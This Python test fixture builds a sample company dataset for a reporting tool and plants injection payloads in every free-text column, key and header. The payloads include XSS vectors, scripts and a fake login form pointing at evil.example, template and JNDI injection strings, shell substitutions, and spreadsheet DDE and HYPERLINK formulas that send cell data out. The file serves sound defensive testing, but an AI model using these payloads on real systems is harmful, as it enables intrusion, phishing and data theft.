"""A company whose data want to harm whoever reads its reports: payloads, and the sample company with them planted.

Each payload that a browser might run says ``owned`` when it does: it sets ``window.owned``, changes the title and opens
a dialog; each that a browser might build leaves an element with the class ``owned``, or one that our pages never have.
"""

from __future__ import annotations

import csv
import json
from itertools import cycle
from pathlib import Path

import pandas as pd

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "sample"

_DO = "window.owned=1;document.title=`owned`;alert(`owned`)"

PAYLOADS = {
    # Script, in every place that runs it
    "script": f"<script class=owned>{_DO}</script>",
    "script in capitals": f"<ScRiPt CLASS=owned>{_DO}</sCrIpT >",
    "script from elsewhere": '<script class="owned" src="https://evil.example/x.js"></script>',
    "script as a module": f'<script class=owned type="module">{_DO}</script>',
    "script cut open": f"<scr<script>ipt class=owned>{_DO}</scr</script>ipt>",
    "out of a script": f"</script><script class=owned>{_DO}</script>",
    "out of a style": f"</style><script class=owned>{_DO}</script>",
    "out of a title": f"</title><img class=owned src=x onerror={_DO}>",
    "out of a textarea": f"</textarea><svg class=owned onload={_DO}>",
    "out of a comment": f"--><img class=owned src=x onerror={_DO}><!--",
    "a comment that never ends": "<!--owned",
    "cdata": f"<![CDATA[<script class=owned>{_DO}</script>]]>",
    "a processing instruction": "<?xml-stylesheet href='https://evil.example/x.css'?><b class=owned>",
    # Event handlers, in every quoting
    "image handler": f"<img class=owned src=x onerror={_DO}>",
    "handler after a double quote": f'" class=owned onmouseover="{_DO}" autofocus onfocus="{_DO}" x="',
    "handler after a single quote": f"' class=owned onmouseover='{_DO}' autofocus onfocus='{_DO}' x='",
    "handler without quotes": f" class=owned onmouseover={_DO} autofocus onfocus={_DO} ",
    "handler after a backtick": f"` class=owned onmouseover=`{_DO}` x=`",
    "tag closed and opened": f'"></div></section></main><details class=owned open ontoggle="{_DO}">',
    "slashes for blanks": f"<img/class=owned/src=x/onerror={_DO}/>",
    "animation handler": "<style class=owned>@keyframes x{}</style>"
    f"<b style='animation:x 1s' onanimationstart='{_DO}'>",
    # Links and things that load
    "javascript link": f'<a class=owned href="javascript:{_DO}">click</a>',
    "javascript link, split": f'<a class=owned href="jav&#x09;ascript:{_DO}">click</a>',
    "data link": "<a class=owned href='data:text/html,<script>alert(`owned`)</script>'>click</a>",
    "bare javascript address": f"javascript:{_DO}",
    "iframe": f'<iframe class=owned srcdoc="<script>parent.{_DO}</script>"></iframe>',
    "object and embed": "<object class=owned data='data:text/html,owned'></object>"
    "<embed class=owned src='//evil.example'>",
    "base": "<base class=owned href='https://evil.example/'>",
    "refresh": "<meta class=owned http-equiv=refresh content='9;url=https://evil.example/'>",
    "another policy": "<meta class=owned http-equiv='Content-Security-Policy' content='default-src *'>",
    "link": "<link class=owned rel=stylesheet href='https://evil.example/x.css'>",
    "form": "<form class=owned action='https://evil.example/'><input name=password autofocus><button>Log in</button>",
    "picture from elsewhere": "<img class=owned src='https://evil.example/1x' srcset='https://evil.example/2x 2x'>",
    # SVG and MathML
    "svg": f"<svg class=owned onload={_DO}><animate onbegin={_DO} attributeName=x dur=1s>",
    "svg script": f"</text></g></svg><svg class=owned><script>{_DO}</script></svg>",
    "svg foreign object": f"</text><foreignObject class=owned><img src=x onerror={_DO}></foreignObject><text>",
    "svg use": "</text><use class=owned href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/>",
    "mathml": f"<math class=owned><mtext><table><mglyph><style><img src=x onerror={_DO}></style></mglyph></table>",
    # Style
    "style": "<style class=owned>*{display:none!important}</style>",
    "style attribute": '" style="position:fixed;inset:0;background:red" class="owned',
    "css": "red;}*{display:none!important}a{color:expression(alert(1))}@import url(https://evil.example/x.css);",
    # Templates, entities, escapes
    "template": "{{ 7 * 7 }}{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# owned #}",
    "format": "{0.__class__} {tables} %s %(x)s %n $HOME `id` $(id) ${jndi:ldap://evil.example/x}",
    "entities": "&lt;script&gt;window.owned=1&lt;/script&gt; &amp;amp; &#60;img src=x&#62; &quot;&apos;",
    "escapes": r"\u003cscript\u003ewindow.owned=1\u003c/script\u003e \x3cb\x3e \074 %3Cscript%3E",
    "json": '"}, {"owned": true, "x": "</script>',
    # Characters
    "control characters": "be\x07ll \x1b[31mred\x1b[0m \x08back \x0bup \x7fgone \x85line",
    "nul": "before\x00after",
    "bidi override": "invoice \u202egnp.exe\u202c \u2066hidden\u2069 \u200fright",
    "zero width": "pay\u200bpal \u200dj\u200coin \ufeffmark \u2060word \u00adsoft",
    "right to left": "شركة الاختبار العربية ١٢٣ חברה בעברית",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 ✈️ 🇩🇪 ☃ 𝒲𝓊𝓃𝒹ℯ𝓇",
    "combining": "Z̸̢̛a̷l̶g̴o̵" + "\u0301" * 40,
    "tags and private use": "x\U000e0041\U000e0042\ue000\uf8ff\ufffd",
    "full width": "＜script＞ ＝1+1 ＂onload＝＂",
    "line separators": "one\u2028two\u2029three\r\nfour\nfive\tsix",
    # Markdown and LaTeX
    "markdown link": "[click](javascript:alert`owned`) ![pixel](https://evil.example/p.gif) <https://evil.example>",
    "markdown heading": "# Heading\n\n## Method\n\n---\n\n* item\n\n> quote",
    "markdown code": "```html\n<b class=owned>\n```\n\n    <b class=owned>indented</b>\n\n| a | b |\n|---|---|\n",
    "html in markdown": "<details class=owned open><summary>**bold** _it_ ~~gone~~</summary>\n\n`code`\n\n</details>",
    "latex dollars": r"$\frac{a}{b}$ and $$\sum_{i} x_i$$ and \$5 _{x} ^2",
    "latex brackets": r"\(\href{javascript:alert(1)}{x}\) \[\unicode{<img src=x onerror=alert(1)>}\] \begin{align}",
    "latex broken": r"$\frac{$ \undefined{ $x^{_}$ costs $5 or $6",
    # What a spreadsheet would run
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "formula, dde": "=cmd|' /C calc'!A0",
    "formula, plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after blanks": "   =1+1",
    "formula, full width": "＝1+1",
    "formula in quotes": '"=1+1",=2+2;=3+3',
    # Size
    "long word": "W" * 10_000,
    "long sentence": "ten letters " * 833,
    "many lines": "line\n" * 200,
    "wide characters": "𒐫﷽" * 60,
}

# Text that whoever writes an export chooses. Everything else is a key or one of the contract's own words.
FREE = {
    "accounts": ["name", "segment", "industry", "region", "country", "acquisition_channel", "churn_reason"],
    "subscriptions": ["plan"],
    "renewals": ["forecast_category"],
    "usage": ["user_id", "feature"],
    "tickets": ["channel", "priority", "category", "comment"],
    "surveys": ["comment", "reason", "competitor"],
    "touches": ["channel"],
    "reps": ["name", "team", "segment", "moved_to"],
    "assignments": ["role"],
    "costs": ["item", "function"],
    "work_plan": ["segment", "activity", "value_note"],
    "goals": ["department", "owner"],
    "touchpoints": ["touchpoint"],
    "people_records": ["candidate_id", "course", "process"],
}
# Text that must stay: the keys that link tables (planted apart), and words whose meaning the contract fixes.
KEPT = {
    "accounts": ["account_id"],
    "subscriptions": ["subscription_id", "account_id", "currency"],
    "renewals": ["account_id", "outcome"],
    "usage": ["account_id", "subscription_id"],
    "tickets": ["ticket_id", "account_id", "rep_id"],
    "surveys": ["kind", "account_id", "rep_id", "stage"],
    "touches": ["account_id", "kind", "rep_id"],
    "reps": ["rep_id", "role", "manager_id"],
    "assignments": ["account_id", "rep_id"],
    "costs": ["currency"],
    "work_plan": [],
    "goals": ["metric"],
    "touchpoints": ["stage"],
    "people_records": ["kind", "rep_id"],
}
# By these, few large groups are made: every group of accounts needs some to be shown at all.
GROUPED = {
    "segment",
    "industry",
    "region",
    "country",
    "acquisition_channel",
    "churn_reason",
    "reason",
    "competitor",
} | {*("touchpoint", "item", "activity", "process")}
# Column names are data too. This one becomes an attribute of the accounts, and so perhaps a feature of the risk model.
HEADER = "tier <img class=owned src=x onerror=window.owned=1> $x^2$"

SETTINGS = """version: 1
company: {company}
currency: EUR
timezone: UTC
date_format: YYYY-MM-DD
observed_from: 2023-07-01
data_through: 2026-06-30
set_aside: [orphan]
"""


def quoted(text: str) -> str:
    """Text as a YAML string in double quotes."""
    return json.dumps(text)


def sample(accounts: int = 240) -> dict[str, pd.DataFrame]:
    """The sample company as text, with everybody who left and some who stayed."""
    tables = {path.stem: pd.read_csv(path, dtype=str, keep_default_na=False) for path in sorted(SAMPLE.glob("*.csv"))}
    books = tables["accounts"]
    left = books["churn_reason"] != ""
    stayed = books[~left]["account_id"].iloc[:: max(1, int((~left).sum() / max(1, accounts - left.sum())))]
    chosen = {*books[left]["account_id"], *stayed, ""}
    return {
        name: table[table["account_id"].isin(chosen)] if "account_id" in table else table
        for name, table in tables.items()
    }


def planted(values: pd.Series, payloads: list[str], grouped: bool) -> pd.Series:
    """Every text of a column replaced: equal ones by equal payloads if ``grouped``; what is missing stays missing."""
    if not grouped:
        return pd.Series(
            [payload if value else "" for value, payload in zip(values, cycle(payloads), strict=False)], values.index
        )
    words = [value for value in dict.fromkeys(values) if value]
    return values.map({"": "", **dict(zip(words, cycle(payloads), strict=False))})


def write(folder: Path, accounts: int = 240) -> Path:
    """The sample company under ``folder``, with payloads in every text that whoever writes an export can choose."""
    tables = sample(accounts)
    # A NUL byte stops the loader, as it should; and in a table of many rows the longest texts would only take time.
    everything = [text for text in PAYLOADS.values() if "\0" not in text]
    short = [text for text in everything if len(text) < 500]
    for place, (name, columns) in enumerate(FREE.items()):
        table = tables[name] = tables[name].copy()
        payloads = everything if len(table) < 1000 else short
        for step, column in enumerate(columns):
            start = (7 * place + 11 * step) % len(payloads)
            turned = payloads[start:] + payloads[:start]
            table[column] = planted(table[column], turned, column in GROUPED)
    # One word for one segment in all tables, and one that a chart, a sentence and a table show.
    segments = [PAYLOADS[name] for name in ("handler after a double quote", "svg script", "long word")]
    for name in ("accounts", "reps", "work_plan"):
        plain = pd.read_csv(SAMPLE / f"{name}.csv", dtype=str, keep_default_na=False).loc[tables[name].index, "segment"]
        tables[name]["segment"] = plain.map(
            dict(zip(("SMB", "Mid-Market", "Enterprise"), segments, strict=True)) | {"": ""}
        )
    books = tables["accounts"]
    books[HEADER] = planted(pd.Series("x", books.index), everything[:6], grouped=False)
    _plant_keys(tables, short)
    _add_rows_to_set_aside(tables, everything)
    folder.mkdir(parents=True, exist_ok=True)
    for name, table in tables.items():
        table.to_csv(folder / f"{name}.csv", index=False, lineterminator="\n", quoting=csv.QUOTE_ALL)
    company = f"{PAYLOADS['handler after a double quote']}{PAYLOADS['script']}{PAYLOADS['bidi override']}"
    (folder / "mapping.yml").write_text(SETTINGS.format(company=quoted(company)), encoding="utf-8")
    return folder


def _plant_keys(tables: dict[str, pd.DataFrame], payloads: list[str]) -> None:
    """A third of the accounts and reps get a payload for a key; half of those have no name that could stand for it."""
    for key, home, columns in (
        ("account_id", "accounts", ["account_id"]),
        ("rep_id", "reps", ["rep_id", "manager_id"]),
    ):
        keys = list(tables[home][key])[::3]
        new = {old: f"{payload} {old}" for old, payload in zip(keys, cycle(payloads), strict=False)}
        for table in tables.values():
            for column in set(columns) & set(table.columns):
                table[column] = table[column].replace(new)
        nameless = tables[home][key].isin(list(new.values())[::2])
        tables[home].loc[nameless, "name"] = ""


def _add_rows_to_set_aside(tables: dict[str, pd.DataFrame], payloads: list[str]) -> None:
    """Tickets of accounts that nobody knows: each is set aside and listed with its key."""
    tickets = tables["tickets"]
    strangers = tickets.head(len(payloads)).copy()
    strangers["account_id"] = [f"{payload} nobody" for payload in payloads]
    strangers["ticket_id"] = [f"{payload} {place}" for place, payload in enumerate(payloads)]
    tables["tickets"] = pd.concat([tickets, strangers])
